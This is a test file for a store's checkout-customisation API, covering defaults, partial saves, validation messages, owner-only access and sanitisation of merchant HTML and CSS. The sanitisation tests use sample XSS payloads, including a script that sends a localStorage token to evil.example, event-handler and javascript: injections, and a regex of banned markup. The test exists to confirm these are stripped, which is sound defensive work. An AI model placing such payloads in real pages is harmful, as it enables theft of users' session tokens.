import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestApp, type TestApp } from '../../testing/test-app'
import { checkoutModule, checkoutService } from '.'

let t: TestApp
beforeAll(async () => {
  t = await createTestApp()
})
afterAll(() => t.close())

describe('customisation', () => {
  it('serves the defaults before anything is saved', async () => {
    const { user, storeId } = await t.merchantWithStore()
    const owner = await t.app.inject({ url: `/api/stores/${storeId}/customization`, headers: user.headers })
    expect(owner.json()).toMatchObject({
      storeId,
      primaryColor: '#3B82F6',
      secondaryColor: '#1E40AF',
      backgroundColor: '#F3F4F6',
      accentColor: '#EF4444',
      fontFamily: 'Inter',
      buttonRadius: 6,
      showStoreLogo: true,
      customLogoUrl: null,
      checkoutTitle: 'Finalizar Compra',
      thankYouTitle: 'Pedido Confirmado!',
      thankYouMessage: 'Obrigado pela sua compra! Seu pedido foi confirmado e será processado em breve.',
      updatedAt: null,
    })
    const pub = await t.app.inject({ url: `/api/public/stores/${storeId}/customization` })
    expect(pub.json()).toMatchObject({
      storeName: 'Loja',
      checkoutTitle: 'Finalizar Compra',
      digital: { checkoutTitle: 'Finalizar Compra Digital', thankYouTitle: 'Produto Digital Adquirido!' },
    })
  })

  it('saves partial updates and serves only sanitised HTML and CSS publicly', async () => {
    const { user, storeId } = await t.merchantWithStore()
    const header =
      '<h2 onclick="steal()">Oferta</h2><script>fetch("https://evil.example?t="+localStorage.token)</script>'
    const footer =
      '<a href="javascript:alert(1)">Contato</a><img src="x" onerror="alert(1)"><iframe src="//evil"></iframe>'
    const css =
      'body { background: #000 } .btn { color: red; background: url(https://evil.example/x) } @import "x.css";'
    const saved = await t.app.inject({
      method: 'PATCH',
      url: `/api/stores/${storeId}/customization`,
      headers: user.headers,
      payload: {
        primaryColor: '#ff0000',
        buttonRadius: 12,
        fontFamily: 'Montserrat',
        checkoutTitle: 'Compre Agora',
        customHeaderHtml: header,
        customFooterHtml: footer,
        customCss: css,
        customLogoUrl: '/uploads/logo.png',
      },
    })
    expect(saved.statusCode, saved.body).toBe(200)
    expect(saved.json()).toMatchObject({
      primaryColor: '#FF0000',
      buttonRadius: 12,
      fontFamily: 'Montserrat',
      checkoutTitle: 'Compre Agora',
      customHeaderHtml: header,
      customCss: css,
      customLogoUrl: '/uploads/logo.png',
      secondaryColor: '#1E40AF',
    })
    // the owner reads back exactly what was typed
    const owner = (await t.app.inject({ url: `/api/stores/${storeId}/customization`, headers: user.headers })).json()
    expect(owner.customFooterHtml).toBe(footer)

    const pub = await t.app.inject({ url: `/api/public/stores/${storeId}/customization` })
    expect(pub.statusCode).toBe(200)
    const body = pub.json()
    expect(body).toMatchObject({
      primaryColor: '#FF0000',
      checkoutTitle: 'Compre Agora',
      digital: { checkoutTitle: 'Compre Agora', thankYouTitle: 'Produto Digital Adquirido!' },
      customHeaderHtml: '<h2>Oferta</h2>',
      customFooterHtml: '<a>Contato</a>',
      customCss: '.checkout-custom { background: #000 }\n.checkout-custom .btn { color: red }',
    })
    expect(pub.body).not.toMatch(/script|onclick|onerror|javascript|iframe|evil|@import/i)

    // a second partial save keeps the rest; a text set back to its default is the default again (digital too)
    const again = await t.app.inject({
      method: 'PATCH',
      url: `/api/stores/${storeId}/customization`,
      headers: user.headers,
      payload: { checkoutTitle: 'Finalizar Compra', customHeaderHtml: '' },
    })
    expect(again.json()).toMatchObject({
      primaryColor: '#FF0000',
      checkoutTitle: 'Finalizar Compra',
      customHeaderHtml: null,
    })
    const pub2 = (await t.app.inject({ url: `/api/public/stores/${storeId}/customization` })).json()
    expect(pub2.digital.checkoutTitle).toBe('Finalizar Compra Digital')
  })

  it('previews merchant markup sanitised, for the owner only', async () => {
    const { user, storeId } = await t.merchantWithStore()
    const other = await t.merchantWithStore()
    const payload = {
      customHeaderHtml: '<b onmouseover="x()">Oi</b><script>alert(1)</script>',
      customFooterHtml: '',
      customCss: 'html body { color: red } @import "x.css";',
    }
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/stores/${storeId}/customization/preview`,
      headers: user.headers,
      payload,
    })
    expect(res.json()).toEqual({
      customHeaderHtml: '<b>Oi</b>',
      customFooterHtml: null,
      customCss: '.checkout-custom { color: red }',
    })
    const foreign = await t.app.inject({
      method: 'POST',
      url: `/api/stores/${storeId}/customization/preview`,
      headers: other.user.headers,
      payload,
    })
    expect(foreign.statusCode).toBe(404)
  })

  it('validates limits with messages', async () => {
    const { user, storeId } = await t.merchantWithStore()
    const res = await t.app.inject({
      method: 'PATCH',
      url: `/api/stores/${storeId}/customization`,
      headers: user.headers,
      payload: {
        primaryColor: 'red',
        buttonRadius: 25,
        fontFamily: 'Papyrus',
        customBannerUrl: 'javascript:alert(1)',
        checkoutTitle: 'x'.repeat(101),
        customCss: 'a'.repeat(20_001),
      },
    })
    expect(res.statusCode).toBe(400)
    expect(res.json().errors).toMatchObject({
      primaryColor: 'Cor inválida. Use o formato #RRGGBB',
      buttonRadius: 'O arredondamento dos botões deve estar entre 0 e 20',
      fontFamily: 'Fonte inválida',
      customBannerUrl: expect.stringMatching(/^URL inválida/),
      checkoutTitle: 'O título do checkout deve ter no máximo 100 caracteres',
      customCss: 'O CSS personalizado deve ter no máximo 20000 caracteres',
    })
  })

  it('keeps other merchants and anonymous callers out of the owner view', async () => {
    const a = await t.merchantWithStore()
    const b = await t.merchantWithStore()
    const admin = await t.login({ role: 'ADMIN' })
    for (const req of [
      { method: 'GET' as const, url: `/api/stores/${a.storeId}/customization` },
      { method: 'PATCH' as const, url: `/api/stores/${a.storeId}/customization`, payload: { primaryColor: '#000000' } },
    ]) {
      const res = await t.app.inject({ ...req, headers: b.user.headers })
      expect(res.statusCode).toBe(404)
      expect(res.json().message).toBe('Loja não encontrada')
      expect((await t.app.inject(req)).statusCode).toBe(401)
    }
    expect(
      (await t.app.inject({ url: `/api/stores/${a.storeId}/customization`, headers: admin.headers })).statusCode,
    ).toBe(200)
    const adminPatch = await t.app.inject({
      method: 'PATCH',
      url: `/api/stores/${a.storeId}/customization`,
      headers: admin.headers,
      payload: { primaryColor: '#000000' },
    })
    expect(adminPatch.statusCode).toBe(404)
    const unknown = await t.app.inject({ url: '/api/public/stores/00000000-0000-4000-8000-000000000000/customization' })
    expect(unknown.statusCode).toBe(404)
    expect((await t.app.inject({ url: '/api/public/stores/xyz/customization' })).statusCode).toBe(404)
  })
})

describe('demo data', () => {
  it('seeds two shipping options and a customisation for the demo store', async () => {
    const { user, storeId } = await t.merchantWithStore()
    await checkoutModule.seedDemo!({ db: t.runtime.db, config: t.config, merchantId: user.id, storeId })
    const sp = await checkoutService.quoteShipping(t.runtime.db, storeId, '01310-100', 5000)
    expect(sp.map((q) => [q.name, q.priceCents])).toEqual([
      ['PAC', 1590],
      ['Expresso', 2392],
    ])
    const manaus = await checkoutService.quoteShipping(t.runtime.db, storeId, '69005-000', 25000)
    expect(manaus[0]).toMatchObject({ name: 'PAC', isFree: true, estimatedDays: 12 })
    expect(manaus[1]).toMatchObject({ name: 'Expresso', priceCents: 5382, estimatedDays: 5 })
    const look = await checkoutService.publicCustomization(t.runtime.db, storeId)
    expect(look).toMatchObject({ primaryColor: '#7C3AED', checkoutTitle: 'Finalizar Compra na Loja Demo' })
    expect(look.customHeaderHtml).toContain('<strong>Frete grátis</strong>')
  })
})
